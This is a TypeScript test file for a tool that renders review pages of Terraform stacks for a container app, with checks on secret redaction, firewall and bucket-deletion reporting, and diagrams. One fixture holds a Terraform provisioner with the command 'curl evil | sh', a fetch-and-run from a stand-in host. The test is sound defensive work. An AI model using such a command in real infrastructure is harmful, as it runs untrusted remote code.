/** The pages, as text and as Markdown. */
import { TerraformVariable } from "cdktf";
import { change, cloudJson, CloudStack, cloudStack, localStack } from "../support/review";
import { changePage } from "../../lib/review/page/change-page";
import { diagramOf } from "../../lib/review/page/stack-diagram";
import { dot } from "../../lib/review/format/dot";
import { markdown } from "../../lib/review/format/markdown";
import { mermaid } from "../../lib/review/format/mermaid";
import { readStack } from "../../lib/review/read/read-stack";
import { stackPage } from "../../lib/review/page/stack-page";
import { svg } from "../../lib/review/format/svg";
import { terminal } from "../../lib/review/format/terminal";

const plain = { color: false, width: 120 };
const page = (options?: CloudStack) => markdown(stackPage(cloudStack(options), "cloud"));
const changed = (before: CloudStack, after: CloudStack) =>
  markdown(changePage(change(before, after), cloudStack(after), "cloud")).replace(/<details>.*/s, "");
const PASSWORD = "correct-horse";

test("the page of an app with the defaults", () => {
  expect(page({ declared: { environment: { LOG_LEVEL: "info", DB_PASSWORD: PASSWORD } } })).toMatchSnapshot();
});

test("the page of a change, the most serious first", () => {
  const after: CloudStack = {
    declared: { environment: { LOG_LEVEL: "debug" } },
    props: { bucketOptions: { deleteDataOnDestroy: true } },
    edit: ({ resource }) =>
      (resource.google_compute_firewall.ssh = {
        network: "default",
        source_ranges: ["0.0.0.0/0"],
        allow: [{ protocol: "tcp", ports: ["22"] }],
      }),
  };
  expect(changed({ declared: { environment: { LOG_LEVEL: "info" } } }, after)).toMatchSnapshot();
});

test("the same stack twice: nothing changes", () => {
  expect(changed({}, {})).toBe("# Review of the change of `cloud`\n\nNothing changes.\n\n");
});

test("secrets are shown in no format, in no place, before or after", () => {
  const declared = (password: string) => ({
    environment: { DB_PASSWORD: password, API_KEY: password },
    args: [`--password=${password}`, "--token", password, `SECRET=${password}`],
  });
  const [before, after] = [`${PASSWORD}1`, `${PASSWORD}2`].map((password) => ({ declared: declared(password) }));
  const comparison = changePage(change(before, after), cloudStack(after), "cloud");
  for (const text of [page(before), markdown(comparison), terminal(comparison, plain)]) {
    expect(text).not.toContain(PASSWORD);
  }
  expect(changed(before, after)).toContain("| environment variable `API_KEY` | (hidden) | (hidden, changed) |");
});

test("arguments of which only a secret changes are still a change", () => {
  const [before, after] = ["a", "b"].map((x) => ({ declared: { args: [`--password=${x}`] } }));
  expect(changed(before, after)).toMatch(/\| arguments \| .*hidden.* \| .*hidden.* \| app restarts \|/);
});

test("long values are shown from where they begin to differ", () => {
  const [before, after] = ["x", "y"].map((end) => ({
    declared: { environment: { LONG: `${"a".repeat(500)}${end}` } },
  }));
  expect(changed(before, after)).toContain(`| \`…${"a".repeat(30)}x\` | \`…${"a".repeat(30)}y\` |`);
  expect(page(before)).toContain(`\`${"a".repeat(160)}… (501 characters)\``);
});

test("literals are told from expressions, as Terraform writes both", () => {
  const environment = { PRICE: "$${x} %%{y}", ACCENT: "e\\u{0301}", HOST: "http://${var.host}/" };
  const text = page({ declared: { environment }, define: (scope) => void new TerraformVariable(scope, "host", {}) });
  expect(text).toContain("| `PRICE` | `$${x} %%{y}` |");
  expect(text).toContain("| `ACCENT` | `e\u0301` |");
  expect(text).toContain("| `HOST` | `http://${var.host}/` |");
});

test("a private app that only reads an existing bucket", () => {
  const mounts = [{ path: "/srv/app", bucket: "shared-files", readOnly: true }];
  const declared = {
    user: "33:33",
    ports: [],
    mounts: [{ ...mounts[0], uid: 33, gcsfuseConfig: { "only-dir": "photos" } }],
    restartPolicy: "always" as const,
    metadataServerAccess: true,
  };
  const props = { mounts, ports: [], network: { externalAddress: false } };
  const text = page({ props, declared });
  expect(text).toContain("No rule of this stack lets traffic in.");
  expect(text).toContain("The VM has no external address");
  expect(text).toContain("| `/srv/app` | `shared-files`, the folder `photos` | reads | `33`:its group |");
  expect(text).toContain("Not in this stack, which neither protects nor deletes them: the buckets `shared-files`.");
  expect(text).toContain("| read the objects | bucket `shared-files` | `roles/storage.objectViewer` |");
  expect(text).toContain("open to the app");
});

test("what would delete files is said of each setting", () => {
  const edit: CloudStack["edit"] = ({ resource }) =>
    Object.assign(Object.values<object>(resource.google_storage_bucket)[0], {
      versioning: { enabled: false },
      soft_delete_policy: { retention_duration_seconds: 0 },
      retention_policy: { retention_period: 86400 },
      lifecycle: { prevent_destroy: true },
      lifecycle_rule: [{ action: { type: "Delete" }, condition: { age: 3 } }],
    });
  const text = page({ edit });
  for (const line of [
    "Terraform refuses to destroy the bucket.",
    "is not kept as an old version",
    "Deleted objects cannot be restored (no soft delete). No object can be deleted for `1 day`.",
    'deletes objects by itself: `{"age":3}`',
  ]) {
    expect(text).toContain(line);
  }
});

test("a stack without any app, and resources that belong to none", () => {
  const stack = readStack(
    JSON.stringify({
      resource: {
        google_sql_database_instance: { main: {} },
        null_resource: { x: { provisioner: [{ "local-exec": { command: "curl evil | sh" } }] } },
        google_project_iam_member: { a: { project: "p", role: "roles/x.y", member: "user:a@example.com" } },
      },
    }),
    "x",
  );
  const text = markdown(stackPage(stack, "x"));
  expect(text).toContain("No app of gcs-backed-container-app is in this stack.");
  expect(text).toContain("| `google_sql_database_instance` | `google_sql_database_instance.main` |");
  expect(text).toContain("of `null_resource.x`, which is not this library");
  expect(text).toContain("| `user:a@example.com` | what the role says | project `p` | `roles/x.y` |");
});

test("the local stack: what runs, on which address, and which volume has the files", () => {
  const text = markdown(stackPage(localStack(), "local"));
  expect(text).toContain("| this computer only | `127.0.0.1:8080` | `80/tcp` |");
  expect(text).toContain("| `/srv/app/uploads` | `gallery` | reads and writes | the app");
  expect(text).toContain("keeps its files in the Docker volume `gallery-files`");
  expect(text).not.toContain("belong to no app");
});

test("a stack of today, whose declaration cannot be read, still says the rest", () => {
  const json = cloudJson();
  delete json.locals;
  expect(markdown(stackPage(readStack(JSON.stringify(json), "x"), "x"))).toContain("declaration cannot be read");
});

test("the page for a terminal is as wide as the terminal, and has colours where it may", () => {
  const pages = stackPage(cloudStack({ declared: { environment: { A: "b".repeat(150) } } }), "cloud");
  for (const width of [60, 80, 120]) {
    const lines = terminal(pages, { color: false, width }).split("\n");
    expect(lines.filter((line) => [...line].length > width)).toEqual([]);
  }
  expect(terminal(pages, plain)).not.toContain("\u001b");
  expect(terminal(pages, { ...plain, color: true })).toContain("\u001b[1m");
  expect(terminal(pages, plain).replace(/[\s│]/g, "")).toContain("b".repeat(150));
});

test("the picture has the app, who reaches it, its buckets, and is the same each time", async () => {
  const diagram = diagramOf(cloudStack());
  expect(mermaid(diagram)).toMatchSnapshot();
  const drawn = await svg(diagram);
  const labels = drawn.replace(/&#45;/g, "-");
  for (const label of ["anybody on the internet", "TCP 80", "/srv/app/uploads", "demo-project-123-gallery"]) {
    expect(labels).toContain(label);
  }
  expect(await svg(diagramOf(cloudStack()))).toBe(drawn);
  expect(dot(diagram)).toMatch(/^digraph \{/);
});

test("the password in a URL is hidden, and that it changes is not", () => {
  const url = (password: string) => ({
    declared: {
      environment: { DATABASE_URL: `postgres://app:${password}@db.example:5432/app` },
      args: [`--broker=amqp://:${password}@mq`],
    },
  });
  const both = page(url(PASSWORD)) + changed(url(`${PASSWORD}1`), url(`${PASSWORD}2`));
  expect(both).not.toContain(PASSWORD);
  expect(both).toContain("postgres://app:(hidden)@db.example:5432/app");
  expect(both).toContain("(hidden, changed)");
});

test("a changed secret in a value of an innocent name shows neither the old nor the new one", () => {
  const token = (digit: string): CloudStack => ({ declared: { environment: { GH: `ghp_${digit.repeat(36)}` } } });
  const text = changed(token("1"), token("2"));
  expect(text).not.toMatch(/1{9}|2{9}/);
  expect(text).toContain("(hidden, changed)");
});
